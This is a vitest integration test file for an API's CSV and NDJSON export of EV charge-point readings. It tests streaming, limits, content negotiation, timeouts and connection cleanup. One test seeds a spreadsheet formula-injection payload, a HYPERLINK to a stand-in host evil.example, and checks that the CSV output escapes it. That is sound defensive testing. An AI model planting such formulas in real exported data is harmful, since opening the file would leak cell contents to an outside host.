import { readFile } from 'node:fs/promises';
import { get } from 'node:https';
import { connect } from 'node:net';
import pg from 'pg';
import { afterAll, afterEach, beforeAll, describe, expect, it, onTestFinished, vi } from 'vitest';
import { startApi, type ApiSettings, type RunningApi } from '../harness/api.js';
import { openExport, type SlowExport } from '../harness/export-client.js';
import { createTestTrust, listenerTls } from '../harness/listener-tls.js';
import { createTestDatabase, type TestDatabase } from '../harness/postgres.js';
import { Seed } from '../harness/seed.js';
import { eventually } from '../harness/eventually.js';

const CSV = 'text/csv';
const NDJSON = 'application/x-ndjson';
/** As NDJSON far more than sockets and pipes hold between server and client. */
const MANY = 60_000;
const READINGS = '/v1/readings?chargePointId=Many';

describe('exports', () => {
  let database: TestDatabase;
  let client: pg.Client;
  let seed: Seed;
  let api: RunningApi;
  const others: RunningApi[] = [];

  beforeAll(async () => {
    database = await createTestDatabase({ migrated: true });
    client = new pg.Client({ connectionString: database.url });
    await client.connect();
    seed = new Seed(client);
    await seedMany();
    api = await startApi({ databaseUrl: database.url });
  });

  afterEach(() => Promise.all(others.splice(0).map((other) => other.stop())));

  afterAll(async () => {
    await api.stop();
    await client.end();
    await database.drop();
  });

  async function start(settings: Partial<ApiSettings>): Promise<RunningApi> {
    const other = await startApi({ databaseUrl: database.url, ...settings });
    others.push(other);
    return other;
  }

  /** One reading a second, of one day. */
  async function seedMany(): Promise<void> {
    const seriesId = await seed.series({ chargePointId: 'Many' });
    const at = (second: number): string =>
      new Date(Date.parse('2026-03-01T00:00:00Z') + second * 1_000).toISOString();
    await seed.readings([{ seriesId, timestamp: at(MANY - 1), value: MANY - 1 }]);
    await client.query(
      `insert into readings (series_id, ts, context, value, received_at, batch_id)
       select $1, $2::timestamptz + i * interval '1 second', 1, i, now(), 1 from generate_series(0, $3::int - 2) i`,
      [seriesId, at(0), MANY],
    );
    await seed.position({ first: Date.parse(at(0)), last: Date.parse(at(MANY - 1)), stored: MANY });
  }

  async function text(path: string, accept: string, init: RequestInit = {}): Promise<[Response, string]> {
    const response = await fetch(`${api.url}${path}`, { ...init, headers: { accept } });
    return [response, await response.text()];
  }

  const items = (ndjson: string): Record<string, unknown>[] =>
    ndjson
      .split('\n')
      .slice(0, -1)
      .map((line) => JSON.parse(line) as Record<string, unknown>);

  const lines = (csv: string): string[] => csv.split('\r\n').slice(0, -1);

  /** Connections that hold a transaction open. */
  async function walking(): Promise<number> {
    const { rows } = await client.query(
      `select from pg_stat_activity where datname = current_database() and application_name = 'api-test'
       and xact_start is not null`,
    );
    return rows.length;
  }

  const expectNoneWalking = () =>
    vi.waitFor(async () => expect(await walking()).toBe(0), { timeout: 30_000, interval: 50 });

  it('gives every reading as NDJSON, as the JSON list has it', async () => {
    const [response, body] = await text(READINGS, NDJSON);
    expect(response.headers.get('content-type')).toBe(NDJSON);
    expect(response.headers.get('content-disposition')).toBe('attachment; filename="readings.ndjson"');
    expect(response.headers.get('vary')).toContain('Accept');
    const rows = items(body);
    expect(rows).toHaveLength(MANY);
    expect(rows.map(({ value }) => value)).toEqual(Array.from({ length: MANY }, (_, at) => at));
    expect(rows.slice(0, 100)).toEqual((await api.get(READINGS)).body['items']);
  });

  it('gives every reading as CSV with a header', async () => {
    const [response, body] = await text(READINGS, CSV);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
    expect(response.headers.get('content-disposition')).toBe('attachment; filename="readings.csv"');
    const all = lines(body);
    expect(all).toHaveLength(MANY + 1);
    expect(all.slice(0, 2)).toEqual([
      'chargePointId,evseId,connectorId,measurand,phase,location,unit,context,timestamp,value,transactionId,quality',
      'Many,0,1,Energy.Active.Import.Register,,Outlet,Wh,Sample.Periodic,2026-03-01T00:00:00.000Z,0,,',
    ]);
  });

  it('has a limit only when one is given, of any size, and goes on after a cursor', async () => {
    expect(lines((await text(`${READINGS}&limit=2500`, CSV))[1])).toHaveLength(2_501);
    expect(lines((await text(`${READINGS}&limit=1`, CSV))[1])).toHaveLength(2);
    const { body } = await api.get(`${READINGS}&limit=1000`);
    const cursor = String(body['nextCursor']);
    const rows = items((await text(`${READINGS}&cursor=${cursor}&limit=3`, NDJSON))[1]);
    expect(rows.map(({ value }) => value)).toEqual([1_000, 1_001, 1_002]);
    expect((await api.get(`${READINGS}&limit=2500`)).status).toBe(400);
    for (const limit of ['0', '-1', '1e3', '2147483648', '']) {
      expect((await text(`${READINGS}&limit=${limit}`, CSV))[0].status).toBe(400);
    }
  });

  it('refuses wrong parameters and unknown routes as problems whatever is asked for', async () => {
    for (const path of ['/v1/readings', '/v1/readings?chargePointId=A&from=x', '/v1/none']) {
      const [response] = await text(path, `${CSV}, application/problem+json;q=0.5`);
      expect(response.headers.get('content-type')).toBe('application/problem+json; charset=utf-8');
    }
  });

  it('gives a header alone, or nothing, where there are no rows', async () => {
    const [response, body] = await text('/v1/readings?chargePointId=None', CSV);
    expect([response.status, lines(body).length]).toEqual([200, 1]);
    expect((await text('/v1/readings?chargePointId=None', NDJSON))[1]).toBe('');
    expect((await text('/v1/transactions', NDJSON))[1]).toBe('');
  });

  it('makes the ids of attackers harmless in CSV, and leaves them as they are in NDJSON', async () => {
    const id = `=HYPERLINK("http://evil.example/?"&A1,"x")`;
    const seriesId = await seed.series({ chargePointId: id });
    await seed.readings([{ seriesId, timestamp: '2026-03-01T00:00:00Z', value: -7.25 }]);
    const path = `/v1/readings?chargePointId=${encodeURIComponent(id)}`;
    expect((await text(path, CSV))[1]).toContain(
      `\r\n"'=HYPERLINK(""http://evil.example/?""&A1,""x"")",0,1,`,
    );
    expect((await text(path, CSV))[1]).toContain(',-7.25,,\r\n');
    expect(items((await text(path, NDJSON))[1])[0]).toMatchObject({ chargePointId: id });
  });

  it.each([
    ['', 'application/json; charset=utf-8'],
    ['*/*', 'application/json; charset=utf-8'],
    ['text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8', 'application/json; charset=utf-8'],
    ['application/*', 'application/json; charset=utf-8'],
    ['application/json; charset=UTF-8', 'application/json; charset=utf-8'],
    ['text/*', 'text/csv; charset=utf-8; header=present'],
    ['TEXT/CSV', 'text/csv; charset=utf-8; header=present'],
    ['text/csv; charset=utf-8', 'text/csv; charset=utf-8; header=present'],
    ['application/json;q=0.2, text/csv;q=0.9', 'text/csv; charset=utf-8; header=present'],
    ['text/csv;q=0, */*;q=0.1', 'application/json; charset=utf-8'],
    ['application/json;q=0, */*', 'text/csv; charset=utf-8; header=present'],
    ['application/x-ndjson, text/csv;q=0.9', 'application/x-ndjson'],
  ])('Accept %j is answered with %s', async (accept, type) => {
    const [response] = await text(`${READINGS}&limit=1`, accept);
    expect([response.status, response.headers.get('content-type')]).toEqual([200, type]);
  });

  it.each(['text/html', 'application/pdf', 'text/csv;q=0', 'nonsense', 'a/b;q=x'])(
    'Accept %j is answered with 406',
    async (accept) => {
      const { status, headers, body } = await api.get(READINGS, { headers: { accept } });
      expect(status).toBe(406);
      expect(headers.get('vary')).toContain('Accept');
      expect(body).toMatchObject({
        type: 'urn:meterpulse:problem:not-acceptable',
        detail: expect.stringContaining('text/csv') as string,
      });
    },
  );

  it('has no CSV of what is no list', async () => {
    expect((await text('/v1/stats', CSV))[0].status).toBe(406);
    expect((await text('/v1/charge-points/Many', NDJSON))[0].status).toBe(406);
  });

  it('answers HEAD with the headers alone', async () => {
    const [response, body] = await text(READINGS, CSV, { method: 'HEAD' });
    expect([response.status, response.headers.get('content-type'), body]).toEqual([
      200,
      'text/csv; charset=utf-8; header=present',
      '',
    ]);
  });

  it('is compressed for those who take it', async () => {
    for (const accept of [CSV, NDJSON]) {
      const response = await fetch(`${api.url}${READINGS}`, {
        headers: { accept, 'accept-encoding': 'gzip' },
      });
      expect(response.headers.get('content-encoding')).toBe('gzip');
      expect((await response.text()).split('\n').length).toBeGreaterThan(MANY);
    }
  });

  it('counts rows and time by route', async () => {
    const counted = await start({});
    await fetch(`${counted.url}${READINGS}&limit=1500`, { headers: { accept: CSV } }).then((each) =>
      each.text(),
    );
    const metrics = await counted.registry.metrics();
    expect(metrics).toContain('meterpulse_api_exported_rows_total{route="/v1/readings",format="csv"} 1500');
    expect(metrics).toContain('_count{route="/v1/readings",method="GET",status="200"} 1');
  });

  it('is of one snapshot, however long the client takes', async () => {
    const slow = await openExport(`${api.url}${READINGS}`, NDJSON);
    expect(await walking()).toBe(1);
    const { rows } = await client.query<{ id: number }>(
      `select id from series where charge_point_id = 'Many'`,
    );
    const seriesId = rows[0]?.id ?? 0;
    await seed.readings([{ seriesId, timestamp: '2026-03-01T16:39:59.500Z', value: -1 }]);
    const values = items(await slow.rest()).map(({ value }) => value);
    await client.query('delete from readings where value = -1');
    expect(values).toHaveLength(MANY);
    expect(values).not.toContain(-1);
    await expectNoneWalking();
  });

  it('reads no further than the client takes', async () => {
    const slow = await openExport(`${api.url}${READINGS}`, NDJSON);
    const count = async () =>
      Number(/exported_rows_total\{[^}]*ndjson"\} (\d+)/.exec(await api.registry.metrics())?.[1] ?? 0);
    let before = -1;
    // It comes to rest when sockets and pipes are full.
    await vi.waitFor(
      async () => {
        const last = before;
        before = await count();
        expect(before).toBe(last);
      },
      { timeout: 60_000, interval: 1_500 },
    );
    slow.leave();
    await expectNoneWalking();
    expect(await count()).toBe(before);
  });

  it('gives the connection back when the client leaves', async () => {
    const single = await start({ poolMax: 1, maxExports: 1 });
    for (let time = 0; time < 3; time++) {
      const slow = await openExport(`${single.url}${READINGS}`, NDJSON);
      expect(slow.status).toBe(200);
      slow.leave();
      await expectNoneWalking();
    }
    expect((await single.get('/v1/stats')).status).toBe(200);
    await eventually(async () =>
      expect(await single.registry.metrics()).toContain(
        '_count{route="/v1/readings",method="GET",status="aborted"} 3',
      ),
    );
  });

  it('never makes a part look whole when something fails midway', async () => {
    const logged: string[] = [];
    const failing = await start({ onLog: (line) => logged.push(line) });
    const slow = await openExport(`${failing.url}${READINGS}`, NDJSON);
    await killWalks();
    expect(await endOf(slow)).toBe('broken');
    await eventually(async () =>
      expect(await failing.registry.metrics()).toContain(
        '_count{route="/v1/readings",method="GET",status="broken_off"} 1',
      ),
    );
    expect(logged.some((line) => line.includes('DATABASE_UNAVAILABLE'))).toBe(true);
    expect((await failing.get('/v1/stats')).status).toBe(200);
  });

  it('resets the connection of HTTP/1.0, where an orderly close is the end of an answer', async () => {
    const ended = new Promise<string>((resolve) => {
      const socket = connect(api.port, '127.0.0.1', () =>
        socket.write(`GET ${READINGS} HTTP/1.0\r\nAccept: ${NDJSON}\r\n\r\n`),
      );
      socket.once('data', () => void killWalks());
      socket.on('data', () => undefined);
      socket.on('error', (error: NodeJS.ErrnoException) => resolve(error.code ?? error.message));
      socket.on('end', () => resolve('looked whole'));
    });
    expect(await ended).toBe('ECONNRESET');
  });

  it('breaks off over TLS as well, and answers the next', async () => {
    const trust = await createTestTrust();
    onTestFinished(() => trust.remove());
    const { certFile, keyFile } = trust.server;
    const secured = await start({ tls: listenerTls({ certFile, keyFile }, { name: 'api' }) });
    const ca = await readFile(trust.serverCa.caFile);
    const ended = new Promise<string>((resolve) => {
      const options = {
        port: secured.port,
        host: '127.0.0.1',
        ca,
        path: READINGS,
        headers: { accept: NDJSON },
      };
      get(options, (response) => {
        response.once('data', () => void killWalks());
        response.on('data', () => undefined);
        response.on('error', (error: NodeJS.ErrnoException) => resolve(error.code ?? error.message));
        response.on('end', () => resolve('looked whole'));
      });
    });
    expect(await ended).toBe('ECONNRESET');
    await expectNoneWalking();
    const status = new Promise((resolve, reject) => {
      const options = { port: secured.port, host: '127.0.0.1', ca, path: '/v1/stats' };
      get(options, (response) => resolve(response.resume().statusCode)).on('error', reject);
    });
    expect(await status).toBe(200);
  });

  it('cuts off a client that takes nothing', async () => {
    const strict = await start({ exportStallMs: 300 });
    const stalled = await openExport(`${strict.url}${READINGS}`, NDJSON);
    await expectNoneWalking();
    expect(await endOf(stalled)).toBe('broken');
  });

  it('breaks off what takes longer than its limit', async () => {
    const strict = await start({ exportTimeoutMs: 1_500 });
    const slow = await openExport(`${strict.url}${READINGS}`, CSV + ', ' + NDJSON);
    await expectNoneWalking();
    expect(await endOf(slow)).toBe('broken');
    await eventually(async () => expect(await strict.registry.metrics()).toContain('status="broken_off"'));
  });

  it('has room for a few exports, so that everything else is still answered', async () => {
    const small = await start({ poolMax: 3, maxExports: 2 });
    const running = [
      await openExport(`${small.url}${READINGS}`, NDJSON),
      await openExport(`${small.url}${READINGS}`, NDJSON),
    ];
    const third = await small.get(READINGS, { headers: { accept: NDJSON } });
    expect(third.status).toBe(503);
    expect(Number(third.headers.get('retry-after'))).toBeGreaterThanOrEqual(1);
    expect(third.body).toMatchObject({ type: 'urn:meterpulse:problem:too-many-exports' });
    expect((await small.get('/v1/stats')).status).toBe(200);
    for (const each of running) each.leave();
    await eventually(async () => {
      const again = await fetch(`${small.url}${READINGS}&limit=1`, { headers: { accept: CSV } });
      expect(again.status).toBe(200);
    });
  });

  it('tells before the first byte what went wrong', async () => {
    const strict = await start({ statementTimeoutMs: 100 });
    const blocker = new pg.Client({ connectionString: database.url });
    await blocker.connect();
    await blocker.query('begin; lock table readings in access exclusive mode');
    const { status, body } = await strict.get(READINGS, { headers: { accept: CSV } });
    await blocker.end();
    expect({ status, type: body['type'] }).toEqual({
      status: 504,
      type: 'urn:meterpulse:problem:query-timeout',
    });
  });

  it('ends in bounded time when the API stops', async () => {
    const stopping = await startApi({ databaseUrl: database.url, stopTimeoutMs: 200 });
    const slow = await openExport(`${stopping.url}${READINGS}`, NDJSON);
    await stopping.stop();
    expect(await endOf(slow)).toBe('broken');
    await expectNoneWalking();
  });

  it('reads more days than one statement may open, in parts', async () => {
    const series = [
      await seed.series({ chargePointId: 'Old', connectorId: 1 }),
      await seed.series({ chargePointId: 'Old', connectorId: 2 }),
    ];
    const times = [
      '2020-01-01T00:00:00Z',
      '2021-06-01T00:00:00Z',
      '2021-06-01T12:00:00Z',
      '2026-01-01T00:00:00Z',
    ];
    await seed.readings(
      series.flatMap((seriesId) => times.map((timestamp, value) => ({ seriesId, timestamp, value }))),
    );
    const path = '/v1/readings?chargePointId=Old';
    expect((await api.get(`${path}&from=2019-01-01`)).status).toBe(400);
    const rows = async (query: string) =>
      items((await text(`${path}${query}`, NDJSON))[1]).map(
        ({ connectorId, value }) => `${String(connectorId)}:${String(value)}`,
      );
    expect(await rows('')).toEqual(['1:0', '1:1', '1:2', '1:3', '2:0', '2:1', '2:2', '2:3']);
    expect(await rows('&limit=6')).toEqual(['1:0', '1:1', '1:2', '1:3', '2:0', '2:1']);
    expect(await rows('&to=2021-06-01T12:00:00Z')).toEqual(['1:0', '1:1', '2:0', '2:1']);
    const page = await api.get(`${path}&limit=1&to=2020-06-01`);
    expect(await rows(`&to=2030-01-01&cursor=${String(page.body['nextCursor'])}`)).toEqual([
      ...['1:1', '1:2', '1:3'],
      ...['2:0', '2:1', '2:2', '2:3'],
    ]);
  });

  /** Never the text itself: as a failure's message it would be megabytes. */
  function endOf(slow: SlowExport): Promise<string> {
    return slow.rest().then(
      () => 'looked whole',
      () => 'broken',
    );
  }

  async function killWalks(): Promise<void> {
    await client.query(
      `select pg_terminate_backend(pid) from pg_stat_activity
       where datname = current_database() and application_name = 'api-test' and xact_start is not null`,
    );
  }
});
